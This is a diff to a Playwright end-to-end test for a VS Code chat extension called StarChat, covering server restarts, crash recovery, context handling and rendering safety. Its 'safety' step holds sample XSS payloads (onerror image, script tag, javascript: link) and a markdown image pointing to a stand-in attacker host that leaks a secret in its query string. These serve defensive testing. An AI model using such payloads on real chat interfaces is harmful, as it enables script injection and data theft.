@@ -4,7 +4,12 @@
 //
 // Steps: the status bar shows the model ready; hover over `area`; select average() → right-click
 // → Ask StarChat → Fix changes the text; Ask StarChat → Ask a Question… answers in the chat view;
-// chat with streaming and a follow-up; Stop while a long answer streams.
+// the chat goes on about a file after it is closed, and drops a closed untitled document with a
+// note (all in Restricted Mode: the workspace's settings.json sets a hostile server command that
+// must not run); chat with streaming and a follow-up; Stop while a long answer streams; model output with HTML
+// stays text and its code goes into the file (not the Output panel); the view after Reload
+// Webviews; a trace setting change keeps the server; Restart Server twice leaves one server; the
+// server killed mid-answer.
 import { chromium } from "playwright-core";
 import fs from "node:fs";
 import path from "node:path";
@@ -89,6 +94,62 @@ async function until(what, fn, timeoutMs = 60000, intervalMs = 100) {
 }
 
 const editor = () => page.locator(".editor-instance .monaco-editor").first();
+
+// ---- the language server's processes (children of code-server's extension host) -------------
+function parentOf(pid) {
+  try {
+    const stat = fs.readFileSync(`/proc/${pid}/stat`, "utf8");
+    return Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]);
+  } catch {
+    return 0;
+  }
+}
+/** Process ids of the running starchat-lsp servers that this code-server started. */
+function serverPids() {
+  const pids = [];
+  for (const name of fs.readdirSync("/proc")) {
+    if (!/^\d+$/.test(name)) continue;
+    let cmdline;
+    try {
+      cmdline = fs.readFileSync(`/proc/${name}/cmdline`, "utf8").split("\0");
+      if (fs.readFileSync(`/proc/${name}/stat`, "utf8").split(") ")[1]?.startsWith("Z")) continue; // a zombie
+    } catch {
+      continue;
+    }
+    if (!(cmdline.includes("lsp_server") && cmdline.includes("-m"))) continue;
+    for (let pid = Number(name), hops = 0; pid > 1 && hops < 12; pid = parentOf(pid), hops++) {
+      if (pid === config.codeServerPid) {
+        pids.push(Number(name));
+        break;
+      }
+    }
+  }
+  return pids.sort((a, b) => a - b);
+}
+
+/** The client's log (the StarChat output channel, as written to disk). */
+function clientLog() {
+  const found = [];
+  const walk = (dir) => {
+    for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
+      const full = path.join(dir, entry.name);
+      if (entry.isDirectory()) walk(full);
+      else if (entry.name === "StarChat.log") found.push(full);
+    }
+  };
+  try {
+    walk(path.join(config.userData, "logs"));
+  } catch {}
+  return found.map((f) => fs.readFileSync(f, "utf8")).join("\n");
+}
+const count = (text, part) => text.split(part).length - 1;
+
+async function waitReady(timeoutMs = 120000) {
+  return until("the model to be ready", async () => {
+    const t = await statusItem().innerText();
+    return !/loading|starting|generating|error|stopped/.test(t) && t;
+  }, timeoutMs, 200);
+}
 
 /** The editor's text as the user sees it (all lines of calc.py fit on screen). */
 async function editorText() {
@@ -177,7 +238,8 @@ async function chatTurns() {
   const frame = await chatPageFrame();
   return frame.evaluate(() =>
     [...document.querySelectorAll(".turn")].map((t) => ({
-      role: t.classList.contains("user") ? "user" : "assistant",
+      role: t.classList.contains("user") ? "user" : t.classList.contains("notice") ? "notice" : "assistant",
+      error: t.querySelector(".note.error")?.textContent ?? null,
       status: t.dataset.status,
       updates: Number(t.dataset.updates ?? 0),
       text: (t.querySelector(".content")?.textContent ?? "").trim(),
@@ -233,7 +295,17 @@ try {
       return !/loading|starting|generating/.test(t) && t;
     }, 120000, 200);
     await screenshot("ready");
-    return { statusFirst: text, statusReady: ready, text: await editorText() };
+    // The workspace is not trusted (its .vscode/settings.json names another server command and
+    // environment): the server runs with the user's.
+    const restricted = await page.locator(".statusbar-item", { hasText: "Restricted Mode" }).count();
+    const serverEnv = serverPids().map((pid) => {
+      try {
+        return fs.readFileSync(`/proc/${pid}/environ`, "utf8").split("\0").map((v) => v.split("=")[0]).filter((n) => n.startsWith("STARCHAT_E2E"));
+      } catch {
+        return [];
+      }
+    });
+    return { statusFirst: text, statusReady: ready, text: await editorText(), restricted, serverEnv };
   });
 
   await step("hover", async () => {
@@ -305,6 +377,59 @@ try {
     return { answer: answer.text, turns: await chatTurns() };
   }, { needs: ["ask"] });
 
+  // The chat is about calc.py:4-5 (from Explain). The user closes calc.py and asks on: the
+  // extension opens the file again for the server (never "The document is not open"). An
+  // untitled document closed is gone: the context goes, with a note in the chat.
+  await step("closed-context", async () => {
+    const frame = await chatPageFrame();
+    const contextState = () => frame.evaluate(() => ({ label: document.getElementById("context-label").textContent, hidden: document.getElementById("context").hidden }));
+    const notifications = (method) => count(clientLog(), `Sending notification '${method}'`);
+    /** Sends `text`; stops the answer once it has begun (its words do not matter here). */
+    const askAndStop = async (text) => {
+      const before = (await chatTurns()).length;
+      await sendChat(frame, text);
+      const begun = await until("the answer to begin", async () => {
+        const list = await chatTurns();
+        const last = list.at(-1);
+        return list.length >= before + 2 && last.role === "assistant" && (last.status !== "streaming" || last.text.length > 0) && last;
+      }, 60000, 50);
+      // (it may have ended meanwhile: the button is gone)
+      if (begun.status === "streaming") await chatFrame().locator("#stop").click({ timeout: 1000 }).catch(() => {});
+      return until("the answer to end", async () => {
+        const last = (await chatTurns()).at(-1);
+        return last.status !== "streaming" && last;
+      }, 20000, 50);
+    };
+    const before = await contextState();
+    const [closes, opens] = [notifications("textDocument/didClose"), notifications("textDocument/didOpen")];
+    await editor().locator(".view-lines").click();
+    await page.keyboard.press("Control+W");
+    await until("calc.py closed for the server", async () => notifications("textDocument/didClose") > closes, 15000, 200);
+    const answer = await askAndStop(sc.chatFollowUp);
+    const reopened = notifications("textDocument/didOpen") - opens;
+    const after = await contextState();
+    await screenshot("closed-file-context");
+
+    // An empty untitled document (closed without a prompt) as the context, then closed.
+    const untitledOpens = notifications("textDocument/didOpen");
+    await runCommand("File: New Untitled Text File");
+    await until("the untitled document opened for the server", async () => notifications("textDocument/didOpen") > untitledOpens, 15000, 200);
+    await chatFrame().locator("#include-selection").check();
+    const untitledAnswer = await askAndStop(sc.chatQuestion);
+    await chatFrame().locator("#include-selection").uncheck();
+    const untitled = await contextState();
+    await page.locator(".tabs-container .tab", { hasText: "Untitled" }).first().click();
+    await page.keyboard.press("Control+W");
+    const notice = await until("the note that the context went", async () => (await chatTurns()).find((t) => t.role === "notice"), 15000, 100);
+    const dropped = await contextState();
+    await screenshot("context-dropped");
+
+    // calc.py again, for the next steps.
+    await page.locator(".explorer-folders-view .monaco-list-row", { hasText: "calc.py" }).first().click();
+    await editor().locator(".view-line", { hasText: "def average" }).waitFor();
+    return { before, answer, reopened, after, untitledAnswer, untitled, notice: notice.text, dropped, turns: await chatTurns() };
+  }, { needs: ["explain"] });
+
   await step("chat", async () => {
     await runCommand("StarChat: New Chat");
     const frame = await chatPageFrame();
@@ -361,6 +486,198 @@ try {
     const stopVisible = await chatFrame().locator("#stop").isVisible();
     await screenshot("stopped");
     return { status: stopped.status, lengthAtStop, lengthLater: later.text.length, statusLater: later.status, stopButtonVisible: stopVisible, updates: later.updates, text: later.text.slice(0, 200) };
+  }, { needs: ["open"] });
+
+  // Model output is text, never HTML: an answer with tags, a script, a remote image and a
+  // javascript: link, fed to the page as the extension would send it.
+  await step("safety", async () => {
+    const frame = await chatPageFrame();
+    const csp = await frame.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content") ?? "");
+    const answer = [
+      'Look: <img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script> <b>bold?</b>',
+      "",
+      "![leak](https://attacker.invalid/leak.png?code=secret)",
+      "",
+      "[click me](javascript:window.__pwned=3)",
+      "",
+      "```python",
+      'INSERTED = "</code></pre><img src=x onerror=window.__pwned=4>"',
+      "```",
+    ].join("\n");
+    await frame.evaluate((content) => {
+      const turns = [
+        { id: 9001, role: "user", content: "<i>question</i>", status: "done", title: "<b>title</b>" },
+        { id: 9002, role: "assistant", content, status: "done" },
+      ];
+      window.dispatchEvent(new MessageEvent("message", { data: { type: "state", turns, generating: false, context: "<u>ctx</u>" } }));
+    }, answer);
+    await sleep(300);
+    const dom = await frame.evaluate(() => {
+      const t = document.getElementById("transcript");
+      return {
+        pwned: window.__pwned ?? null,
+        dangerous: t.querySelectorAll("img, script, iframe, object, embed, [onerror], [onload], b, i, u").length,
+        jsLinks: t.querySelectorAll('a[href^="javascript:"]').length,
+        imageLinks: [...t.querySelectorAll("a.image-link")].map((a) => a.getAttribute("href")),
+        answerText: t.querySelector('.turn[data-id="9002"] .content')?.textContent ?? "",
+        userText: t.querySelector('.turn[data-id="9001"]')?.textContent ?? "",
+        context: document.getElementById("context-label").textContent,
+        codeButtons: t.querySelectorAll('.turn[data-id="9002"] button.code-action').length,
+      };
+    });
+    await screenshot("safety");
+    return { csp, ...dom };
+  }, { needs: ["open"] });
+
+  // "Insert at cursor" puts the code into the file last edited, even after the user looked at
+  // the StarChat log (the Output panel is a text editor too, read-only).
+  await step("insert-after-log", async () => {
+    await editor().locator(".view-lines").click();
+    await page.keyboard.press("Control+Home");
+    await runCommand("StarChat: Show Log");
+    const output = page.locator(".panel .monaco-editor .view-lines:visible").first();
+    await output.waitFor();
+    const box = await output.boundingBox();
+    await page.mouse.click(box.x + 80, box.y + box.height - 10); // below the sticky scroll lines
+    await sleep(300);
+    await screenshot("log-focused");
+    const language = await page.locator(".statusbar-item", { hasText: /^(Log|Python|Plain Text)$/ }).first().innerText().catch(() => "");
+    await runCommand("StarChat: Open Chat");
+    await chatFrame().locator('.turn[data-id="9002"] button.code-action[data-action="insert"]').click();
+    const expected = 'INSERTED = "</code></pre><img src=x onerror=window.__pwned=4>"';
+    let seen;
+    await until("the code inserted into calc.py", async () => {
+      seen = await editorText();
+      return seen.startsWith(expected);
+    }, 10000).catch((error) => {
+      throw new Error(`${error.message}; the editor shows ${JSON.stringify(seen)}`);
+    });
+    const tab = await page.locator(".tabs-container .tab.active").first().innerText();
+    await screenshot("inserted");
+    await editor().locator(".view-lines").click();
+    await page.keyboard.press("Control+Z");
+    await until("calc.py as before", async () => (await editorText()) === sc.calc, 10000);
+    return { tab, firstLine: seen.split("\n")[0], languageWhileInLog: language };
+  }, { needs: ["safety"] });
+
+  // Reload Webviews: the conversation comes back from the extension, the message being typed
+  // from the page's state.
+  await step("reload", async () => {
+    await runCommand("StarChat: Open Chat");
+    const input = chatFrame().locator("#input");
+    await input.click();
+    await input.fill("a draft I have not sent");
+    await sleep(200);
+    await runCommand("Developer: Reload Webviews");
+    await sleep(500);
+    cachedChatFrame = undefined;
+    await runCommand("StarChat: Open Chat");
+    const turns = await until("the conversation again", async () => {
+      const list = await chatTurns();
+      return list.length > 0 && list;
+    }, 20000);
+    const draft = await chatFrame().locator("#input").inputValue();
+    await screenshot("reloaded");
+    await chatFrame().locator("#input").fill("");
+    return { turns, draft };
+  }, { needs: ["stop"] });
+
+  // Changing the trace setting (and a server setting) must not restart the server: the language
+  // client follows the trace setting itself, and a restart reloads the model.
+  await step("trace", async () => {
+    const before = serverPids();
+    const changesBefore = count(clientLog(), "Sending notification 'workspace/didChangeConfiguration'");
+    await runCommand("Preferences: Open User Settings");
+    const search = page.locator(".settings-editor .suggest-input-container:visible").first();
+    await search.waitFor();
+    const find = async (query, description) => {
+      await search.click();
+      await page.keyboard.press("Control+F"); // the settings search, focused
+      await page.keyboard.press("Control+A");
+      await page.keyboard.type(query);
+      const item = page.locator(".settings-editor .setting-item-contents:visible", { hasText: description }).first();
+      await item.waitFor();
+      return item;
+    };
+    const topK = (await find("starchat.topK", "likeliest tokens")).locator("input").first();
+    await topK.fill("40");
+    await topK.press("Tab");
+    await until("the changed settings sent to the server", async () => count(clientLog(), "Sending notification 'workspace/didChangeConfiguration'") > changesBefore, 15000, 200);
+    await (await find("starchat.trace.server", "LSP traffic")).locator("select").first().selectOption("messages");
+    await sleep(500);
+    await screenshot("trace-setting");
+    await page.keyboard.press("Control+W");
+    // The language client follows the trace setting itself and tells the server ($/setTrace).
+    await until("the trace setting taken", async () => count(clientLog(), "Sending notification '$/setTrace'") > 0, 15000, 200);
+    await sleep(2000);
+    const after = serverPids();
+    const status = await statusItem().innerText();
+    const log = clientLog();
+    return { before, after, status, starts: count(log, "starting the server:"), configurationChanges: count(log, "Sending notification 'workspace/didChangeConfiguration'") - changesBefore };
+  }, { needs: ["open"] });
+
+  // Restart Server twice in a row (a key bound to it, pressed twice): one server afterwards.
+  await step("restart-twice", async () => {
+    const before = serverPids();
+    const startsBefore = count(clientLog(), "starting the server:");
+    await editor().locator(".view-lines").click();
+    // Both presses in one go (as fast as a user's double press reaches a remote extension host).
+    await page.evaluate(() => {
+      const target = document.activeElement ?? document.body;
+      for (let i = 0; i < 2; i++) {
+        for (const type of ["keydown", "keyup"]) {
+          const init = { key: "F9", code: "F9", keyCode: 120, which: 120, ctrlKey: true, altKey: true, shiftKey: true, bubbles: true, cancelable: true };
+          target.dispatchEvent(new KeyboardEvent(type, init));
+        }
+      }
+    });
+    // Two restarts one after the other, or one (the second asked for before the first began).
+    await until("a restart", async () => count(clientLog(), "starting the server:") >= startsBefore + 1, 30000, 200);
+    await until("a new server", async () => {
+      const now = serverPids();
+      return now.length > 0 && !now.some((pid) => before.includes(pid));
+    }, 30000, 200);
+    await sleep(500);
+    const ready = await waitReady();
+    await sleep(2500); // a server stopped exits within this
+    const after = serverPids();
+    // The client the extension talks to is the server left running.
+    await runCommand("StarChat: New Chat");
+    const frame = await chatPageFrame();
+    await until("an empty chat", async () => (await chatTurns()).length === 0, 10000);
+    await sendChat(frame, sc.chatQuestion);
+    const answer = await until("an answer after the restarts", () => answerDone(frame, 2), 30000);
+    return { before, after, ready, starts: count(clientLog(), "starting the server:"), answer: answer.text, answerStatus: answer.status };
+  }, { needs: ["open"] });
+
+  // The server dies while it answers (e.g. the OOM killer): the answer says so, and the
+  // restarted server answers the next question.
+  await step("crash", async () => {
+    await runCommand("StarChat: New Chat");
+    const frame = await chatPageFrame();
+    await until("an empty chat", async () => (await chatTurns()).length === 0, 10000);
+    await sendChat(frame, sc.longQuestion);
+    await until("the long answer to stream", async () => {
+      const last = (await chatTurns()).at(-1);
+      return last?.role === "assistant" && last.status === "streaming" && last.text.length >= 40;
+    }, 60000, 50);
+    const killed = serverPids();
+    for (const pid of killed) process.kill(pid, "SIGKILL");
+    const failed = await until("the answer to fail", async () => {
+      const last = (await chatTurns()).at(-1);
+      return last?.status !== "streaming" && last;
+    }, 20000, 100);
+    const error = await chatFrame().locator(".turn.assistant .note.error").last().innerText().catch(() => "");
+    await screenshot("crashed");
+    await until("a new server", async () => {
+      const now = serverPids();
+      return now.length > 0 && !now.some((pid) => killed.includes(pid));
+    }, 30000, 200);
+    await runCommand("StarChat: New Chat");
+    await until("an empty chat", async () => (await chatTurns()).length === 0, 10000);
+    await sendChat(frame, sc.chatQuestion);
+    const again = await until("an answer from the restarted server", () => answerDone(frame, 2), 120000);
+    return { killed, status: failed.status, error, again: again.text, againStatus: again.status, after: serverPids() };
   }, { needs: ["open"] });
 
   await step("status-after", async () => {
